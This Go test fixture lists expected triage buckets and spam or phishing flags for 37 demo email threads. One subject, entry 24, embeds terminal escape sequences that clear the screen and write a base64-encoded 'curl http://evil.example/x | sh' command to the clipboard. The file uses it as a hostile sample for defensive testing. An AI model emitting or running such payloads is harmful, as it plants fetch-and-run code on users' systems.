package demo

// Buckets used in Expectations, as in the triage contract.
const (
	BucketUrgent        = "urgent"
	BucketActionable    = "actionable"
	BucketInformational = "informational"
	BucketLowPriority   = "low priority"
)

// Expectation is the intended triage of one demo thread, for tests of the
// triage engine against the demo mailbox.
type Expectation struct {
	// Key is the key of the thread's first message.
	Key     string
	Subject string
	Bucket  string
	Spam    bool
	// Phishing marks credential phishing and CEO fraud.
	Phishing bool
}

// Expectations lists every demo thread with its intended bucket and flags.
// A thread the principal answered last waits on the others: it is
// informational whatever its first message asked (the Lyon switches, the
// capacity sync, the forwarded complaint, the interview feedback, the
// time-off request, the team lunch).
func Expectations() []Expectation {
	return []Expectation{
		{Key: "01-checkout-outage-1", Subject: "[SEV1] checkout-api 5xx rate 38% in eu-west-1", Bucket: BucketUrgent},
		{Key: "02-board-numbers-1", Subject: "Need Q3 infrastructure cost numbers today", Bucket: BucketUrgent},
		{Key: "03-leaked-key-1", Subject: "SECURITY INCIDENT: AWS access key exposed in public repository", Bucket: BucketUrgent},
		{Key: "04-contract-renewal-1", Subject: "Datacenter contract: signature needed by tomorrow 12:00", Bucket: BucketUrgent},
		{Key: "05-invoice-review-1", Subject: "Invoice INV-2026-1187 for October (EUR 18,420.00)", Bucket: BucketActionable},
		{Key: "06-code-review-1", Subject: "Review request: ratelimit: move token buckets to Redis (#482)", Bucket: BucketActionable},
		{Key: "07-expense-approval-1", Subject: "Expense report ER-5521 from Mei Chen awaits your approval", Bucket: BucketActionable},
		{Key: "08-lyon-switches-1", Subject: "Question sur les switches de Lyon (réponse avant vendredi)", Bucket: BucketInformational},
		{Key: "09-capacity-meeting-1", Subject: "Capacity planning sync for 2027 - pick a time", Bucket: BucketInformational},
		{Key: "10-pg-upgrade-01", Subject: "Postgres 16 upgrade plan for the orders cluster", Bucket: BucketActionable},
		{Key: "11-release-notes-1", Subject: "[platform-announce] FYI: gateway v3.2.0 released", Bucket: BucketInformational},
		{Key: "12-org-announcement-1", Subject: "Organisation update: new Customer Experience group", Bucket: BucketInformational},
		{Key: "13-shipping-1", Subject: "Your order NW-88213 has shipped", Bucket: BucketInformational},
		{Key: "14-receipt-1", Subject: "Your receipt — Annual pass 2027", Bucket: BucketInformational},
		{Key: "15-newsletter-1", Subject: "The Platform Weekly #147: Kubernetes 1.35, SQLite tricks, Go generics", Bucket: BucketLowPriority},
		{Key: "16-social-1", Subject: "Alex, you appeared in 14 searches this week", Bucket: BucketLowPriority},
		{Key: "17-promo-1", Subject: "🎁 Black Friday starts now: 40% off all standing desks", Bucket: BucketLowPriority},
		{Key: "18-spam-lottery-1", Subject: "CONGRATULATIONS!!! You have WON EUR 2,500,000.00", Bucket: BucketLowPriority, Spam: true},
		{Key: "19-spam-pharma-1", Subject: "Re: your order - 80% OFF V1agra & C1alis, no prescription", Bucket: BucketLowPriority, Spam: true},
		{Key: "20-spam-seo-1", Subject: "Northwind.example is losing 87% of its Google traffic", Bucket: BucketLowPriority, Spam: true},
		{Key: "21-prompt-injection-1", Subject: "Exclusive: 14% weekly returns with our AI trading bot", Bucket: BucketLowPriority, Spam: true},
		{Key: "22-phish-sso-1", Subject: "Action required: verify your account within 24 hours", Bucket: BucketLowPriority, Spam: true, Phishing: true},
		{Key: "23-ceo-fraud-1", Subject: "Urgent favour - confidential", Bucket: BucketLowPriority, Spam: true, Phishing: true},
		{Key: "24-hostile-escapes-1", Subject: "Invoice ready\x1b[2J\x1b[H\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\a", Bucket: BucketLowPriority, Spam: true},
		{Key: "25-fwd-complaint-1", Subject: "Fwd: Repeated API timeouts since last Tuesday", Bucket: BucketInformational},
		{Key: "26-tokyo-network-1", Subject: "東京オフィスのネットワーク工事完了のお知らせ", Bucket: BucketInformational},
		{Key: "27-interview-feedback-1", Subject: "Interview feedback needed: Senior SRE candidate (Jamie Patel)", Bucket: BucketInformational},
		{Key: "28-vendor-renewal-1", Subject: "Observa renewal quote for 2027", Bucket: BucketActionable},
		{Key: "29-pto-request-1", Subject: "Time off request: 21 Dec - 4 Jan", Bucket: BucketInformational},
		{Key: "30-travel-itinerary-1", Subject: "Itinerary confirmed: Berlin, 2-4 December", Bucket: BucketInformational},
		{Key: "31-contoso-escalation-1", Subject: "Escalation: data export failing for 3 days", Bucket: BucketUrgent},
		{Key: "32-ci-notifications-1", Subject: "[platform/gateway] Pipeline #9921 passed on main", Bucket: BucketLowPriority},
		{Key: "33-offsite-1", Subject: "Platform offsite 14-15 January: venue booked", Bucket: BucketInformational},
		{Key: "34-benefits-enrollment-1", Subject: "Reminder: choose your 2027 benefits before Nov 30", Bucket: BucketActionable},
		{Key: "35-tracker-digest-1", Subject: "Your weekly digest: 23 issues updated in PLAT", Bucket: BucketLowPriority},
		{Key: "36-team-lunch-1", Subject: "Friday lunch: ramen or tacos?", Bucket: BucketInformational},
		{Key: "37-roadmap-invite-1", Subject: "Invitation: Contoso roadmap review @ Wed 18 Nov 2026 16:00 - 16:45 (UTC)", Bucket: BucketActionable},
	}
}
